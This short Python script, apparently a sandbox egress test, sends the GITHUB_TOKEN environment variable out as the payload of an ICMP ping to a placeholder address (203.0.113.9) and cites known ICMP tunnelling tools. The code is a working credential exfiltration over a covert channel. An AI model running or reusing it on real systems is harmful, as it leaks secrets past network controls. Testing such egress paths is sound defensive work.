#!/usr/bin/python3
"""
Trick: Sends a secret as the payload of a ping, by an unprivileged ICMP socket.
Known from: ICMP tunnels: Loki (Phrack 49), icmpsh, PingTunnel.
First: sendto; odd doors (socket)
Second: the sinkhole's record of the packet
"""

import os
import socket

header = b"\x08\0\0\0\0\0\0\1"  # an echo request; the kernel fills in checksum and id
try:
    channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
except OSError as error:
    import errno

    print(f"blocked: {errno.errorcode[error.errno]}")
else:
    channel.sendto(header + os.environ["GITHUB_TOKEN"].encode(), ("203.0.113.9", 0))
    print("performed")
